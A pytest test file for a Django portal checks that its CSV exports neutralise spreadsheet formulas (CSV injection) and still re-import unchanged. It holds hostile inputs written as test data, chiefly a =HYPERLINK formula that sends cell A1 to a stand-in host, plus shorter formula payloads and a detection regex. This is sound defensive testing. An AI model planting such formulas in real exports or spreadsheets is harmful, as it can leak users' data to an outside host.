"""No CSV the portal writes holds a live formula (CSV injection), and the exit export still
re-imports unchanged: the apostrophe added before a formula-like cell is removed by the import."""

import csv
import io
import re
from datetime import date
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse

from dossiers.models import Dossier
from indicators.importer import FIELD_OF_COLUMN, import_exits
from indicators.models import ExitRecord
from siae_portal.exports import csv_safe
from tests.dossiers.conftest import make_campaign
from tests.factories import StructureFactory
from tests.indicators.dashboard_data import worked_example

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("http://example.org/?"&A1;"cliquez")'
# A cell a spreadsheet evaluates: it starts with one of these, and is not a plain number.
LIVE = re.compile(r"[=+\-@\t\r]")
PLAIN_NUMBER = re.compile(r"[+-]?\d[\d\s]*(?:[.,]\d+)?(?:\s?%)?")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+A1", "'+A1"),
        ("-A-1", "'-A-1"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcmd", "'\tcmd"),
        ("\r=1", "'\r=1"),
        ("'=x", "''=x"),  # already escaped once: escaped again, so that the import gives it back
        ("-3", "-3"),
        ("-12,5", "-12,5"),
        ("+1 250,50", "+1 250,50"),
        ("-4,2 %", "-4,2 %"),
        ("05/01/2009", "05/01/2009"),
        ("S-2009-001", "S-2009-001"),
        ("l'équipe", "l'équipe"),
        ("", ""),
        (-3, -3),
        (Decimal("-1.5"), Decimal("-1.5")),
        (None, None),
    ],
)
def test_csv_safe_neutralises_formulas_and_keeps_numbers(value, written):
    assert csv_safe(value) == written


def _cells(content: bytes):
    text = content.decode("utf-8").removeprefix("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row]


def _live_cells(content: bytes) -> list[str]:
    return [c for c in _cells(content) if LIVE.match(c) and not PLAIN_NUMBER.fullmatch(c)]


def test_no_csv_download_of_the_portal_holds_a_formula(client, portal_admin, structure):
    """Every CSV the portal serves, with a structure name and an exit reference set to formulas."""
    structure.name = HOSTILE_NAME
    structure.commune = "@commune"
    structure.save()
    worked_example(structure, 2009)
    ExitRecord.objects.create(
        structure=structure,
        reference="=1+2",
        entry_date=date(2009, 1, 5),
        exit_date=date(2009, 9, 30),
        exit_motive="chomage",
    )
    Dossier.objects.create(structure=structure, campaign=make_campaign(2009))
    client.force_login(portal_admin)
    downloads = {
        "sorties": (reverse("indicators:exit_list", args=[structure.pk]), {"format": "csv"}),
        "modèle": (reverse("indicators:import_template", args=[structure.pk]), {}),
        "tableau de bord": (reverse("indicators:dashboard"), {"year": 2009, "format": "csv"}),
        "structure": (reverse("indicators:structure_dashboard", args=[structure.pk]), {"year": 2009, "format": "csv"}),
        "dossiers": (reverse("dossiers:dossier_list"), {"export": "csv", "campaign": "2009"}),
    }
    for name, (url, params) in downloads.items():
        response = client.get(url, params)
        assert response["Content-Type"].startswith("text/csv"), name
        assert _live_cells(response.content) == [], name
    exits = _cells(client.get(*downloads["sorties"]).content)
    assert "'=1+2" in exits
    dashboard = _cells(client.get(*downloads["tableau de bord"]).content)
    assert "'" + HOSTILE_NAME in dashboard
    dossiers = _cells(client.get(*downloads["dossiers"]).content)
    assert "'" + HOSTILE_NAME in dossiers and "'@commune" in dossiers


def test_the_indicators_command_csv_holds_no_formula(structure):
    structure.name = HOSTILE_NAME
    structure.save()
    worked_example(structure, 2009)
    out = io.StringIO()
    call_command("indicators", "--year", "2009", "--structure", structure.siret, "--format", "csv", stdout=out)
    content = out.getvalue().encode()
    assert "'" + HOSTILE_NAME in _cells(content)
    assert _live_cells(content) == []


FORMULA_REFERENCES = ["=1+2", "+A", "-A-1", "@x", "'=y", "''+z", "-12", "'quote", "\u00a0=nbsp"]


def test_an_exported_file_with_formula_like_references_reimports_unchanged(client, editor, structure):
    for n, reference in enumerate(FORMULA_REFERENCES):
        ExitRecord.objects.create(
            structure=structure,
            reference=reference.strip(),
            entry_date=date(2009, 1, 1 + n),
            exit_date=date(2009, 9, 30),
            exit_motive="chomage",
            hours_worked=Decimal(n),
        )
    fields = list(FIELD_OF_COLUMN.values())
    before = sorted(ExitRecord.objects.values_list(*fields))
    client.force_login(editor)
    response = client.get(reverse("indicators:exit_list", args=[structure.pk]), {"format": "csv"})
    assert _live_cells(response.content) == []
    result = import_exits(structure, response.content, "sorties.csv", user=editor)
    assert (result.created, result.updated, result.unchanged) == (0, 0, len(FORMULA_REFERENCES))
    # Into another structure: the very same references, not the escaped text.
    other = StructureFactory(kind="EI")
    assert import_exits(other, response.content, "sorties.csv", user=editor).created == len(FORMULA_REFERENCES)
    assert sorted(ExitRecord.objects.filter(structure=other).values_list(*fields)) == before


def test_a_hand_made_csv_with_a_spreadsheet_apostrophe_imports_the_text(structure):
    """A spreadsheet saving "'=x" keeps the apostrophe in CSV: it marks text, it is not the value."""
    text = (
        "reference;date_entree;date_sortie;motif_sortie\n"
        "'=x;05/01/2009;30/09/2009;chomage\n"
        "'abc;05/01/2009;30/09/2009;chomage\n"
    )
    import_exits(structure, text.encode(), "sorties.csv", today=date(2010, 1, 1))
    assert set(ExitRecord.objects.values_list("reference", flat=True)) == {"=x", "'abc"}
